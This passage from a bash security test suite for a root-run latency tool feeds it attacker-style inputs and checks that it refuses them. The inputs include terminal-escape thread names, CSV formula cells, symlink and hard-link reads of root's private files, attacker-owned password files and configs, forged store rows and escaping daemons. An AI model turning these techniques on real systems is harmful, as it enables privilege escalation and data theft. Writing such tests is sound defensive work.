    else broken "$CUR" "--metrics-file: $msg"; fi
}
runs_hostile() { # a store holding the hostile run
    [ -s "$WORK/hostile-store/runs.db" ] && return
    need_hostile
    "$BIN" runs import "$WORK/hostile.json" --store "$WORK/hostile-store/runs.db" >/dev/null 2>&1
}
case_e_csv_runs_export() {
    runs_hostile
    rr "$CUR" 60 runs export 'id=1' --format csv --store "$WORK/hostile-store/runs.db" -o "$WORK/$CUR.csv"
    if msg=$(check csv "$WORK/$CUR.csv"); then held "$CUR" "runs export --format csv: no formula cell"
    else broken "$CUR" "runs export --format csv of an imported hostile run: $msg"; fi
}
term_runs_case() { # args...
    runs_hostile
    rr "$CUR" 60 runs "$@" --store "$WORK/hostile-store/runs.db"
    cat "$LOG/$CUR.out" "$LOG/$CUR.err" >"$LOG/$CUR.all"
    if msg=$(check term "$LOG/$CUR.all"); then held "$CUR" "runs $*: no control characters on the terminal"
    else broken "$CUR" "runs $* (an imported hostile run): $msg"; fi
}
case_e_term_runs_list() { term_runs_case list; }
case_e_term_runs_show() { term_runs_case show 1; }
case_e_term_stat_comm() { # the attacker's thread name (comm) on root's terminal
    "${AS_USER[@]}" "$PY" -c '
import ctypes, time
ctypes.CDLL(None).prctl(15, b"\x1b]0;PWN\x07\x1b[2J", 0, 0, 0)
end = time.time() + 20
while time.time() < end:
    for i in range(100000): pass
    time.sleep(0.002)' &
    local ap=$!; BG_PIDS+=($ap)
    sleep 1
    rr "$CUR" 30 stat --count 2 --interval 1s --top 0
    stop_bg $ap
    cat "$LOG/$CUR.out" "$LOG/$CUR.err" >"$LOG/$CUR.all"
    if msg=$(check term "$LOG/$CUR.all"); then held "$CUR" "stat: thread names shown escaped"
    else broken "$CUR" "stat lists a thread the attacker named with ESC sequences: $msg"; fi
}
case_e_5mb_label() { # a 5 MB label: bounded output, no crash
    "$PY" - "$FIX/idle/results.json" "$WORK/$CUR.json" <<'EOF'
import json, sys
d = json.load(open(sys.argv[1])); d["label"] = "L" * 5000000; json.dump(d, open(sys.argv[2], "w"))
EOF
    rr "$CUR" 120 report "$WORK/$CUR.json" -o "$WORK/o-$CUR"
    local n; n=$(cat "$LOG/$CUR.out" "$LOG/$CUR.err" | wc -c)
    if { [ $RC = 0 ] || [ $RC = 2 ]; } && [ "$n" -le 65536 ]; then held "$CUR" "report <5 MB label>: exit $RC, $n bytes on the terminal"
    else broken "$CUR" "report <results.json with a 5 MB label>: exit $RC, $n bytes on the terminal ($(tail -c 200 "$LOG/$CUR.err" | clean 160))"; fi
}

# ===========================================================================
# x-*: parse errors never show a file the attacker could not read (finding 12's class)
# ===========================================================================
case_x_run_check() { leak_case run --check; }
case_x_campaign() { leak_case campaign --dry-run; }
case_x_report() { leak_case report -o "$WORK/o-x-report"; }
case_x_export() { leak_case export --format junit; }
case_x_stat_compare() { as_user ln -sf "$SECRET" "$ATT/x-stat-b"; leak_case stat --compare "$ATT/x-stat-b"; }
case_x_runs_import() { leak_case runs import --store "$WORK/x-import/runs.db"; }

# ===========================================================================
# w-*: bounded work (finding 13's class)
# ===========================================================================
case_w_export_20k() { need_bigjson; limited "$CUR" export "$BIGJSON" --format junit -o "$WORK/$CUR.xml"; bounded "export --format junit <20 000 threads>"; }
case_w_import_20k() { need_bigjson; limited "$CUR" runs import "$BIGJSON" --store "$WORK/$CUR/runs.db"; bounded "runs import <20 000 threads>"; }
case_w_report_300() {
    mkdir -p "$WORK/$CUR-in"; local i
    for i in $(seq 1 300); do cp "$FIX/idle/results.json" "$WORK/$CUR-in/r$i.json"; done
    limited "$CUR" report "$WORK/$CUR-in"/*.json -o "$WORK/o-$CUR"
    bounded "report <300 inputs (curves)>"
}

# ===========================================================================
# round 5 (A, secrets, encoders, processes): the first fixer's findings of
# the round-5 outside review that part 2 took (secrets in every captured
# form F02/F06, encoders' missed characters F09, processes that escape a
# campaign F21). Kept apart from the "round 5 (B)" block.
# ===========================================================================
R5A_PW=S3cretR5A
r5a_hits() { # dirs...: the files under them (and root's terminal logs of this case) holding $R5A_PW
    { grep -rl -- "$R5A_PW" "$@" 2>/dev/null; grep -l -- "$R5A_PW" "$LOG/$CUR"* 2>/dev/null | sed "s|$LOG/|terminal:|"; } | sed "s|$WORK/||" | tr '\n' ' '
}
case_r5a_f02a() { # every URL form and --db-password on root's command line, through every file
    local O=$WORK/$CUR
    env -u RTSHIELD_NO_STORE timeout 60 "$BIN" "${MEASURE[@]}" --out "$O" \
        --store "POSTGRESQL://rtsuser:$R5A_PW?x#y@127.0.0.1:1/lab?pass%77ord=$R5A_PW" \
        --tag "note=--db-password $R5A_PW" >"$LOG/$CUR.out" 2>"$LOG/$CUR.err"
    RC=$?
    "$BIN" report "$O" -o "$O-rep" --format html,md,csv >"$LOG/$CUR-rep.out" 2>&1
    local f
    for f in cyclictest-json junit kcidb openmetrics; do
        "$BIN" export "$O" --format $f -o "$O-x.$f" >"$LOG/$CUR-x-$f.out" 2>&1
    done
    mkdir -m 700 "$O-st"
    "$BIN" runs import "$O" --store "$O-st/runs.db" >"$LOG/$CUR-imp.out" 2>&1
    "$BIN" runs show 1 --json --store "$O-st/runs.db" >"$LOG/$CUR-show.out" 2>&1
    local hits; hits=$(r5a_hits "$O" "$O"-rep "$O"-x.* "$O-st")
    if [ -z "$hits" ]; then held "$CUR" "URL password with ? # in its userinfo, ?pass%77ord=, --db-password X: in no file, store or terminal (exit $RC)"
    else broken "$CUR" "the password is in: $hits"; fi
}
case_r5a_f02b() { # a run configuration's program commands: PGPASSWORD="a b", libpq escapes, a URL with a space
    local O=$WORK/$CUR C=$WORK/$CUR.cfg
    cfg "$C" "1 s" "$(printf '%s\n' 'program[0]' '{' "  cmdline sh -c \"PGPASSWORD='x $R5A_PW' exec sleep 5\"" '}' \
        'program[1]' '{' "  cmdline sh -c \"exec sleep 5\" \"host=db password=a\\\\ $R5A_PW\"" '}')"
    rr "$CUR" 60 run "$C" --out "$O" -q
    "$BIN" report "$O" -o "$O-rep" --format html,md,csv >"$LOG/$CUR-rep.out" 2>&1
    local hits; hits=$(r5a_hits "$O" "$O-rep")
    if [ $RC != 0 ]; then broken "$CUR" "run exit $RC: $(first_err "$LOG/$CUR.err" 160)"
    elif [ -z "$hits" ]; then held "$CUR" "program commands and the recorded configuration: the password in no file (exit $RC)"
    else broken "$CUR" "the password is in: $hits"; fi
}
case_r5a_f02c() { # a campaign's cmd: load with PGPASSWORD: cell id, load tag, results, store, summary
    local O=$WORK/$CUR C=$WORK/$CUR.toml
    printf '%s\n' 'name = "r5a"' 'cpus = "0"' 'duration = "1s"' '[measure]' 'period = "1ms"' 'policy = "other"' '[axes]' \
        "load = [\"cmd:env PGPASSWORD=$R5A_PW sleep 3600\"]" >"$C"
    mkdir -m 700 "$O-st"
    rr "$CUR" 120 campaign "$C" --out "$O" --store "$O-st/runs.db"
    "$BIN" runs list --store "$O-st/runs.db" >"$LOG/$CUR-list.out" 2>&1
    local hits; hits=$(r5a_hits "$O" "$O-st")
    if [ $RC != 0 ]; then broken "$CUR" "campaign exit $RC: $(first_err "$LOG/$CUR.err" 160)"
    elif [ -z "$hits" ]; then held "$CUR" "cmd:env PGPASSWORD=X ...: X in no cell id, tag, results.json, store or summary (exit $RC)"
    else broken "$CUR" "the password is in: $hits"; fi
}
case_r5a_f06() { # sudo -E: HOME and PGPASSFILE of the attacker, a 0600 password file the attacker owns
    local H=$ATT/r5a-home
    as_user mkdir -p "$H"; as_user sh -c "umask 077; echo '*:*:*:*:ATTACKER-CHOSEN' >'$H/.pgpass'; cp '$H/.pgpass' '$ATT/r5a-pgpass'"
    HOME=$H rr "$CUR-home" 60 runs list --store "postgres://rtsuser@127.0.0.1:1/lab"
    local e1; e1=$(first_err "$LOG/$CUR-home.err" 200)
    PGPASSFILE=$ATT/r5a-pgpass rr "$CUR-file" 60 runs list --store "postgres://rtsuser@127.0.0.1:1/lab"
    local e2; e2=$(first_err "$LOG/$CUR-file.err" 200)
    if grep -q 'password file.*not used' "$LOG/$CUR-home.err" && grep -q 'password file.*not used' "$LOG/$CUR-file.err"; then
        held "$CUR" "the attacker's ~/.pgpass and PGPASSFILE refused: $(grep -o 'password file[^:]*: not trusted ([^)]*)' "$LOG/$CUR-home.err" | head -1 | clean 160)"
    else broken "$CUR" "root used the attacker's password file without a word (HOME: $e1; PGPASSFILE: $e2)"; fi
}
R5A_LABEL=' =1+1\u202eevil\u2066x\u2069\u200b&#x202e;\u0000end'
case_r5a_f09a() { # bidi controls, invisible characters and a reference to one in HTML, Markdown, the terminal
    hostile "$WORK/$CUR.json" "label=\"$R5A_LABEL\""
    rr "$CUR" 60 report "$WORK/$CUR.json" -o "$WORK/$CUR-rep" --format html,md,csv
    local bad
    bad=$("$PY" - "$WORK/$CUR-rep/report.html" "$WORK/$CUR-rep/summary.md" "$LOG/$CUR.out" "$LOG/$CUR.err" <<'PYEOF'
import sys, unicodedata
bad = []
for f in sys.argv[1:]:
    t = open(f, encoding="utf-8", errors="replace").read()
    cs = sorted({"U+%04X" % ord(c) for c in t if (unicodedata.category(c) in ("Cf", "Cc") and c not in "\n\t\r") or 0x7f <= ord(c) <= 0x9f})
    if cs: bad.append("%s: %s" % (f.rsplit("/", 1)[-1], " ".join(cs)))
    if f.endswith(".md") and "&#x202e;" in t.replace("\\&#x202e;", ""): bad.append("summary.md: &#x202e; unescaped")
print("; ".join(bad))
PYEOF
)
    if [ $RC != 0 ]; then broken "$CUR" "report exit $RC: $(first_err "$LOG/$CUR.err" 160)"
    elif [ -z "$bad" ]; then held "$CUR" "report.html (page and its JSON), summary.md, the terminal: U+202E, U+2066, U+200B, NUL shown escaped; &#x202e; escaped in Markdown"
    else broken "$CUR" "raw: $bad"; fi
}
case_r5a_f09b() { # CSV: NUL, ESC, bidi, and a formula behind a space an importer trims
    hostile "$WORK/$CUR.json" "label=\"$R5A_LABEL\\u001b[2J\""
    rr "$CUR" 60 report "$WORK/$CUR.json" -o "$WORK/$CUR-rep" --format csv
    local bad
    bad=$("$PY" - "$WORK/$CUR-rep/summary.csv" <<'PYEOF'
import sys, csv, unicodedata
t = open(sys.argv[1], encoding="utf-8", errors="replace", newline="").read()
bad = sorted({"U+%04X" % ord(c) for c in t if (unicodedata.category(c) in ("Cf", "Cc") and c not in "\n\t\r") or 0x7f <= ord(c) <= 0x9f})
for row in csv.reader(t.splitlines()):
    for cell in row:
        s = cell.lstrip(" \t\r\n")
        if s[:1] in ("=", "+", "-", "@", "\uff1d") and not cell.startswith("'"):
            try: float(cell)
            except ValueError: bad.append("formula %r" % cell[:20])
print(" ".join(bad))
PYEOF
)
    if [ $RC != 0 ] || [ ! -s "$WORK/$CUR-rep/summary.csv" ]; then broken "$CUR" "report --format csv exit $RC: $(first_err "$LOG/$CUR.err" 160)"
    elif [ -z "$bad" ]; then held "$CUR" "summary.csv: controls, NUL and bidi shown escaped, ' =1+1' neutralised"
    else broken "$CUR" "summary.csv: $bad"; fi
}
case_r5a_f21() { # a campaign's cmd: load that daemonises (setsid -f): must not outlive its cell
    local C=$WORK/$CUR.toml P=$WORK/$CUR.pid
    printf '%s\n' 'name = "r5a-f21"' 'cpus = "0"' 'duration = "1s"' '[measure]' 'period = "1ms"' 'policy = "other"' '[axes]' \
        "load = [\"cmd:setsid -f sh -c 'echo \$\$ > $P; exec sleep 7775'; exec sleep 3600\"]" >"$C"
    mkdir -m 700 "$WORK/$CUR-st"
    rr "$CUR" 120 campaign "$C" --out "$WORK/o-$CUR" --store "$WORK/$CUR-st/runs.db"
    local pid; pid=$(cat "$P" 2>/dev/null)
    # Alive and still the daemon this case started (its own marker): it escaped.
    local alive=0
    if [ -n "$pid" ] && [ "$(tr '\0' ' ' 2>/dev/null <"/proc/$pid/cmdline")" = "sleep 7775 " ]; then alive=1; fi
    if [ -z "$pid" ]; then broken "$CUR" "the load never started (campaign exit $RC: $(first_err "$LOG/$CUR.err" 120))"
    elif [ $alive = 0 ]; then held "$CUR" "the daemonised load ended with its cell: $(grep -o 'ended [0-9]* process[^(]*([^)]*)' "$LOG/$CUR.err" | head -1 | clean 120)"
    else
        broken "$CUR" "pid $pid (sleep 7775, parent $(awk '{print $4}' "/proc/$pid/stat")) still running as root after the campaign (exit $RC)"
        kill -KILL "$pid" 2>/dev/null   # the daemon this case started, checked by its marker above
    fi
}

# ===========================================================================
# r5a-*: round 5 (A): config trust, input links, new directories, output
# reuse (docs/security.md, "Adversary round 5 (A)")
# ===========================================================================
R5A_SECRET_DIR=$ROOTSIDE/r5a-secret-run   # root's private run: 0700, results 0600
r5a_secret() {
    [ -e "$R5A_SECRET_DIR/results.json" ] && return
    mkdir -m 700 "$R5A_SECRET_DIR"
    "$PY" - "$FIX/idle/results.json" "$R5A_SECRET_DIR/results.json" <<'EOF'
import json, sys
d = json.load(open(sys.argv[1])); d["label"] = "R5A-SECRET-LABEL"; d["hostname"] = "r5a-secret-host"
json.dump(d, open(sys.argv[2], "w"))
EOF
    chmod 600 "$R5A_SECRET_DIR/results.json"
}
r5a_ran() { [ -e "$1" ]; }   # whether a command of the attacker's file ran as root
r5a_prog() { # marker: a program stanza touching the marker
    printf 'program[0]\n{\n  cmdline /usr/bin/touch %s\n  cpu_affinity %s\n}\n' "$1" "$MCPU"
}
case_r5a_f01a() { # run CONFIG: the attacker's configuration names a program root would run
    local mark=$WORK/r5a-f01a-ran
    cfg "$WORK/r5a-f01a.tmp" "1 s" "$(r5a_prog "$mark")"
    as_user sh -c "cat >'$ATT/r5a-f01a.cfg'" <"$WORK/r5a-f01a.tmp"
    rr "$CUR" 60 run -q "$ATT/r5a-f01a.cfg" --out "$WORK/o-$CUR"
    if [ $RC = 2 ] && ! r5a_ran "$mark" && grep -q "r5a-f01a.cfg.*owned by uid $AUID" "$LOG/$CUR.err"; then
        held "$CUR" "run <attacker's config>: refused before anything ran (exit 2: $(first_err "$LOG/$CUR.err" 160))"
    else broken "$CUR" "run <attacker's config>: exit $RC, its program ran as root: $(r5a_ran "$mark" && echo yes || echo no)"; fi
}
case_r5a_f01b() { # run CONFIG: root's own file, but group/world-writable (a careless chmod)
    local mark=$WORK/r5a-f01b-ran
    cfg "$WORK/r5a-f01b.cfg" "1 s" "$(r5a_prog "$mark")"
    chmod 666 "$WORK/r5a-f01b.cfg"
    rr "$CUR" 60 run -q "$WORK/r5a-f01b.cfg" --out "$WORK/o-$CUR"
    if [ $RC = 2 ] && ! r5a_ran "$mark" && grep -q "mode 666" "$LOG/$CUR.err"; then
        held "$CUR" "run <root's config, mode 666>: refused (exit 2)"
    else broken "$CUR" "run <root's config, mode 666>: exit $RC, its program ran: $(r5a_ran "$mark" && echo yes || echo no)"; fi
}
case_r5a_f01c() { # run CONFIG: root's own file, in the attacker's directory (they can replace it)
    local mark=$WORK/r5a-f01c-ran
    cfg "$ATT/r5a-f01c.cfg" "1 s" "$(r5a_prog "$mark")"
    rr "$CUR" 60 run -q "$ATT/r5a-f01c.cfg" --out "$WORK/o-$CUR"
    if [ $RC = 2 ] && ! r5a_ran "$mark" && grep -q "r5a-f01c.cfg.*refusing to use it as root" "$LOG/$CUR.err"; then
        held "$CUR" "run <root's config in the attacker's dir>: refused (exit 2)"
    else broken "$CUR" "run <root's config in the attacker's dir>: exit $RC, its program ran: $(r5a_ran "$mark" && echo yes || echo no)"; fi
}
case_r5a_f07a() { # campaign FILE of the attacker's
    as_user cp "$LIB/tiny.toml" "$ATT/r5a-f07a.toml"
    mkdir -m 700 "$WORK/r5a-f07a-st"
    rr "$CUR" 120 campaign "$ATT/r5a-f07a.toml" --store "$WORK/r5a-f07a-st/runs.db" --out "$WORK/o-$CUR"
    if [ $RC = 2 ] && [ ! -e "$WORK/o-$CUR" ] && grep -q "r5a-f07a.toml.*owned by uid $AUID" "$LOG/$CUR.err"; then
        held "$CUR" "campaign <attacker's file>: refused before measuring (exit 2)"
    else broken "$CUR" "campaign <attacker's file>: exit $RC, output $(lsd "$WORK/o-$CUR" | clean 80)"; fi
}
case_r5a_f07b() { # scenario FILE of the attacker's (its tasks run as root)
    as_user cp "$LIB/tiny.scn" "$ATT/r5a-f07b.scn"
    rr "$CUR" 60 scenario "$ATT/r5a-f07b.scn" --json "$WORK/r5a-f07b.json"
    if [ $RC = 2 ] && [ ! -e "$WORK/r5a-f07b.json" ] && grep -q "r5a-f07b.scn.*owned by uid $AUID" "$LOG/$CUR.err"; then
        held "$CUR" "scenario <attacker's file>: refused before running (exit 2)"
    else broken "$CUR" "scenario <attacker's file>: exit $RC ($(first_err "$LOG/$CUR.err" 160))"; fi
}
r5a_leaked() { grep -rqs "R5A-SECRET-LABEL\|r5a-secret-host" "$@"; }   # root's secret run in these files?
case_r5a_f04a() { # report <attacker's dir holding a symlink to root's private results.json>
    r5a_secret
    as_user mkdir "$ATT/r5a-f04a"
    as_user ln -s "$R5A_SECRET_DIR/results.json" "$ATT/r5a-f04a/results.json"
    rr "$CUR" 60 report "$ATT/r5a-f04a" -o "$WORK/o-$CUR"
    if [ $RC = 2 ] && ! r5a_leaked "$WORK/o-$CUR" "$LOG/$CUR.out"; then
        held "$CUR" "report <link to root's 0600 results.json>: refused (exit 2: $(first_err "$LOG/$CUR.err" 140))"
    else broken "$CUR" "report <link to root's 0600 results.json>: exit $RC, root's run in the report: $(r5a_leaked "$WORK/o-$CUR" && echo yes || echo no)"; fi
}
case_r5a_f04b() { # a hard link to root's private results.json in the attacker's dir
    r5a_secret
    as_user mkdir "$ATT/r5a-f04b"
    local how="planted by the attacker"
    if ! as_user ln "$R5A_SECRET_DIR/results.json" "$ATT/r5a-f04b/results.json" 2>/dev/null; then
        # fs.protected_hardlinks=1 stops the attacker here; where it is 0
        # (common on embedded systems) they can: root plants it in their place.
        ln "$R5A_SECRET_DIR/results.json" "$ATT/r5a-f04b/results.json"; how="planted by root in the attacker's place: protected_hardlinks=1 here"
    fi
    rr "$CUR" 60 report "$ATT/r5a-f04b" -o "$WORK/o-$CUR"; local r=$RC
    rr "$CUR-x" 60 export "$ATT/r5a-f04b/results.json" --format junit -o "$WORK/o-$CUR.xml"; local x=$RC
    mkdir -m 700 "$WORK/r5a-f04b-st"
    rr "$CUR-i" 60 runs import --store "$WORK/r5a-f04b-st/runs.db" "$ATT/r5a-f04b"; local i=$RC
    if [ "$r$x$i" = 222 ] && ! r5a_leaked "$WORK/o-$CUR" "$WORK/o-$CUR.xml" "$LOG/$CUR.out" "$LOG/$CUR-x.out"; then
        held "$CUR" "report, export, runs import <hard link ($how) to root's 0600 results.json>: refused (exit 2: $(first_err "$LOG/$CUR.err" 140))"
    else broken "$CUR" "hard link ($how): report exit $r, export $x, runs import $i; root's run shown: $(r5a_leaked "$WORK/o-$CUR" "$WORK/o-$CUR.xml" && echo yes || echo no)"; fi
}
case_r5a_f04c() { # a timeline.csv link beside the attacker's own results.json
    r5a_secret
    printf 'elapsed_s,phase,thread,cpu,samples,ival_samples,ival_min_ns,ival_avg_ns,ival_max_ns\n1,run,0,0,10,10,1,2,777000\n#R5A-SECRET-LABEL\n' >"$R5A_SECRET_DIR/timeline.csv"
    chmod 600 "$R5A_SECRET_DIR/timeline.csv"
    as_user mkdir "$ATT/r5a-f04c"
    as_user cp "$FIX/idle/results.json" "$ATT/r5a-f04c/results.json"
    as_user ln -s "$R5A_SECRET_DIR/timeline.csv" "$ATT/r5a-f04c/timeline.csv"
    rr "$CUR" 60 report "$ATT/r5a-f04c" -o "$WORK/o-$CUR"
    if [ $RC = 2 ] && ! grep -rqs "777" "$WORK/o-$CUR"/timeline*; then
        held "$CUR" "report <attacker's run, timeline.csv linked to root's>: refused (exit 2: $(first_err "$LOG/$CUR.err" 140))"
    else broken "$CUR" "report <timeline.csv linked to root's>: exit $RC, root's timeline read: $(ls "$WORK/o-$CUR" 2>/dev/null | grep -c timeline) timeline file(s)"; fi
}
r5a_new_case() { # what args...: ATT/NAME-new/sub must not be created
    local what=$1; shift
    rr "$CUR" 60 "$@"
    # export -o creates no directory at all (exit 1: no such directory).
    if [ $RC != 0 ] && [ ! -e "$ATT/$CUR-new" ]; then
        held "$CUR" "$what ATT/new/sub: nothing created in the attacker's dir (exit $RC: $(first_err "$LOG/$CUR.err" 140))"
    else broken "$CUR" "$what ATT/new/sub: exit $RC, created as root in the attacker's dir: $(ls -ld "$ATT/$CUR-new" 2>/dev/null | awk '{print $1, $3}')"; fi
}
case_r5a_f22a() { r5a_new_case "measure --out" "${MEASURE[@]}" --out "$ATT/$CUR-new/sub"; }
case_r5a_f22b() { r5a_new_case "report -o" report "$FIX/idle" -o "$ATT/$CUR-new/sub"; }
case_r5a_f22c() { r5a_new_case "export -o" export "$FIX/idle" --format junit -o "$ATT/$CUR-new/sub/x.xml"; }
case_r5a_f22d() { r5a_new_case "--store" runs import "$FIX/idle" --store "$ATT/$CUR-new/sub/runs.db"; }

case_r5a_f17a() { # measure --out DIR again: the earlier run's thread files stay and pass for this run's
    local o=$WORK/o-$CUR m=(measure --duration 1s --period 1ms --policy other -q --no-memlock --no-dma-latency)
    [ "$MCPU" = "$LCPU" ] && { held "$CUR" "one CPU only: no second thread to leave behind"; return; }
    rr "$CUR-1" 60 "${m[@]}" --cpus "$MCPU,$LCPU" --out "$o"
    [ -e "$o/timer_thread01.txt" ] || { broken "$CUR" "the first run (2 threads) wrote no timer_thread01.txt (exit $RC)"; return; }
    rr "$CUR" 60 "${m[@]}" --cpus "$MCPU" --out "$o"
    if [ $RC = 0 ] && [ ! -e "$o/timer_thread01.txt" ] && [ -e "$o/.rtshield-files" ] && ! grep -q "^timer_thread01" "$o/.rtshield-files"; then
        held "$CUR" "the earlier run's timer_thread01.txt removed, the manifest names only this run's files"
    else broken "$CUR" "measure --out <dir of an earlier 2-thread run>: exit $RC, left: $(lsd "$o" | clean 120)"; fi
}
case_r5a_f17b() { # an earlier run's timeline.csv put back into a run directory is taken by report
    local o=$WORK/o-$CUR
    rr "$CUR-1" 60 "${MEASURE[@]}" --out "$WORK/o-$CUR-old"
    rr "$CUR-2" 60 "${MEASURE[@]}" --out "$o"
    # (a comment line: the manifest records sizes, and two runs' timelines
    # may have the same size by chance)
    { cat "$WORK/o-$CUR-old/timeline.csv"; echo "# an earlier run"; } >"$o/timeline.csv"
    rr "$CUR" 60 report "$o" -o "$WORK/o-$CUR-rep"
    if [ $RC = 0 ] && [ ! -e "$WORK/o-$CUR-rep/timeline.gp" ] && grep -q "timeline.csv" "$LOG/$CUR.err"; then
        held "$CUR" "report left the timeline the run did not write out ($(grep timeline.csv "$LOG/$CUR.err" | clean 140))"
    else broken "$CUR" "report <run dir with another run's timeline.csv>: exit $RC, timeline drawn: $([ -e "$WORK/o-$CUR-rep/timeline.gp" ] && echo yes || echo no)"; fi
}

# ===========================================================================
# round 5 (B): the second fixer's findings of the round-5 outside review
# (store trust F03/F10/F13, bounded work F12/F15/F16/F19/F20, signals
# F05/F14, leftovers F08/F11, links inside a sysroot F18). Kept apart from
# the "round 5 (A)" block.
# ===========================================================================
R5B_CT=$WORK/r5b-ct.json   # a cyclictest JSON of root's, made once
r5b_ct() { # a cyclictest JSON export of the idle fixture
    [ -s "$R5B_CT" ] || "$BIN" export "$FIX/idle/results.json" --format cyclictest-json -o "$R5B_CT" >/dev/null 2>&1
}
r5b_nopanic() { # what: held unless rtshield panicked (101) or gave no clear refusal (2)
    if [ $RC = 2 ] && ! grep -q panicked "$LOG/$CUR.err"; then held "$CUR" "$1: exit 2 ($(first_err "$LOG/$CUR.err" 140))"
    else broken "$CUR" "$1: exit $RC ($(first_err "$LOG/$CUR.err" 160))"; fi
}
case_r5b_f03() { # a colleague's results.json squats the UUID of root's world-readable run
    mkdir -p "$ROOTSIDE/r5b-rno"
    cp "$FIX/idle/results.json" "$ROOTSIDE/r5b-rno/results.json"; chmod 644 "$ROOTSIDE/r5b-rno/results.json"
    "$PY" - "$ROOTSIDE/r5b-rno/results.json" <<'EOF'
import json, sys
d = json.load(open(sys.argv[1])); d["tags"]["uuid"] = "db70c0de-5a5a-4000-8000-0000000000f3"
json.dump(d, open(sys.argv[1], "w"))
EOF
    as_user "$PY" - "$ROOTSIDE/r5b-rno/results.json" "$ATT/r5b-share.json" <<'EOF'
import json, sys
d = json.load(open(sys.argv[1])); d["label"] = "colleague-run"
for t in d["threads"]: t["max_ns"] = 5000
json.dump(d, open(sys.argv[2], "w"))
EOF
    mkdir -m 700 "$WORK/r5b-rs2"
    rr "$CUR" 60 runs import --store "$WORK/r5b-rs2/runs.db" "$ATT/r5b-share.json" "$ROOTSIDE/r5b-rno/results.json"
    if [ $RC != 0 ] && grep "r5b-rno" "$LOG/$CUR.out" | grep -q CONFLICT && ! grep "r5b-rno" "$LOG/$CUR.out" | grep -q 'already stored'; then
        held "$CUR" "root's own run reported as a UUID conflict (exit $RC), never 'already stored'"
    else broken "$CUR" "root's import of its run: exit $RC, $(grep r5b-rno "$LOG/$CUR.out" | clean 160)"; fi
}
case_r5b_f10() { # rows of a shared store inserted by hand (here with sqlite3, as a lab member would with psql)
    mkdir -m 700 "$WORK/r5b-st10"
    "$BIN" runs import --store "$WORK/r5b-st10/runs.db" "$FIX/idle/results.json" "$FIX/hell/results.json" >/dev/null 2>&1
    "$PY" - "$WORK/r5b-st10/runs.db" <<'EOF'
import sqlite3, sys
c = sqlite3.connect(sys.argv[1])
c.execute("""insert into runs (uuid,host,kernel,kernel_version,preempt,arch,cpu_model,tool,label,started,duration_s,
  end_reason,mode,source,stored_at,summary,result,machine_id) select 'evil-uuid-1',host,kernel,kernel_version,preempt,arch,
  cpu_model,tool,'evil',started,duration_s,end_reason,mode,source,stored_at,
  '[[{"cpu":1,"samples":9000000000000000000,"min_ns":0,"avg_ns":1e308,"max_ns":9000000000000000000,"percentiles":{},"overruns":0,"missed_periods":0,"lost":0}],{"uuid":"evil-uuid-1"}]',
  result,machine_id from runs where id=1""")
c.execute("""update runs set summary=replace(summary,'"samples":','"samples":-1,"x":') where id=2""")
c.commit()
EOF
    rr "$CUR" 60 runs list --store "$WORK/r5b-st10/runs.db"
    local list_rc=$RC
    rr "$CUR-x" 60 runs export 'id != 0' --store "$WORK/r5b-st10/runs.db"
    if [ $list_rc = 0 ] && [ $RC = 0 ] && grep -q 'run 3 left out' "$LOG/$CUR.err" && ! grep -q 9000000000000000 "$LOG/$CUR.out"; then
        held "$CUR" "runs list/export: the bad rows left out with a warning naming them, the others listed"
    else broken "$CUR" "runs list exit $list_rc, export exit $RC: $(first_err "$LOG/$CUR.err" 160) $(clean 160 <"$LOG/$CUR.out")"; fi
}
case_r5b_f13() { # a colleague stores a run with the campaign's tags straight into the store
    rr "$CUR-tag" 60 "${MEASURE[@]}" --out "$WORK/o-$CUR-tag" --no-store --tag campaign_id=x --tag cell=load=idle,isolation=none --tag repeat=1
    local tag_rc=$RC
    mkdir -m 700 "$WORK/r5b-c13"
    rr "$CUR-1" 120 campaign "$LIB/tiny.toml" --store "$WORK/r5b-c13/runs.db" --out "$WORK/o-$CUR-1"
    # The forged run: a copy of the campaign's row, figures and label changed, another UUID.
    "$PY" - "$WORK/r5b-c13/runs.db" <<'EOF'
import sqlite3, sys, json
c = sqlite3.connect(sys.argv[1])
uuid, summary, result = c.execute("select uuid, summary, result from runs where id=1").fetchone()
r = json.loads(result); r["label"] = "FORGED"; r["tags"]["uuid"] = "f0f0f0f0-0000-4000-8000-00000000f013"
for t in r["threads"]: t["max_ns"] = 1234
s = json.loads(summary); s[1]["uuid"] = r["tags"]["uuid"]
c.execute("delete from runs")
for t in ("tags", "threads"): c.execute("delete from " + t)
c.execute("""insert into runs (uuid,host,kernel,kernel_version,preempt,arch,cpu_model,tool,label,started,duration_s,
  end_reason,mode,source,stored_at,summary,result,machine_id) select ?,'h','k','v','p','a','c','t','FORGED',null,1,
  'duration',null,null,0,?,?,''""", (r["tags"]["uuid"], json.dumps(s), json.dumps(r)))
rid = c.execute("select id from runs").fetchone()[0]
for k, v in r["tags"].items(): c.execute("insert into tags (run_id,key,value) values (?,?,?)", (rid, k, v))
c.commit()
EOF
    rr "$CUR" 120 campaign "$LIB/tiny.toml" --resume --store "$WORK/r5b-c13/runs.db" --out "$WORK/o-$CUR"
    if [ $tag_rc = 2 ] && [ $RC = 0 ] && ! grep -q 'already stored (resume)' "$LOG/$CUR.out" && ! grep -rqs FORGED "$WORK/o-$CUR/report/runs"; then
        held "$CUR" "--tag campaign_id refused (exit 2); the forged row neither skips the cell nor enters the report"
    else broken "$CUR" "--tag exit $tag_rc; campaign --resume exit $RC: $(grep -E 'already|stored' "$LOG/$CUR.out" | clean 160)$(grep -rqs FORGED "$WORK/o-$CUR/report/runs" && echo ' (FORGED in the report)')"; fi
}
case_r5b_f12() { # a colleague's configuration: 1025 timer threads, 257 programs
    as_user "$PY" - "$ATT/r5b-t.cfg" "$ATT/r5b-p.cfg" "$MCPU" <<'EOF'
import sys
with open(sys.argv[1], "w") as f:
    f.write("main\n{\n  cpu_affinity %s\n}\n" % sys.argv[3])
    for i in range(1025):
        f.write("timer_thread[%d]\n{\n  cpu_affinity %s\n  sched.policy OTHER\n  lifetime.duration 2s\n}\n" % (i, sys.argv[3]))
with open(sys.argv[2], "w") as f:
    f.write("timer_thread[0]\n{\n  cpu_affinity %s\n  lifetime.duration 2s\n}\n" % sys.argv[3])
    for i in range(257):
        f.write("program[%d]\n{\n  load cpu\n  cpu_affinity %s\n  sched.policy IDLE\n}\n" % (i, sys.argv[3]))
EOF
    rr "$CUR-t" 60 run --check "$ATT/r5b-t.cfg"; local t=$RC
    rr "$CUR" 60 run --check "$ATT/r5b-p.cfg"
    if [ $t = 2 ] && [ $RC = 2 ]; then held "$CUR" "1025 timer threads and 257 programs refused at check time ($(first_err "$LOG/$CUR-t.err" 100))"
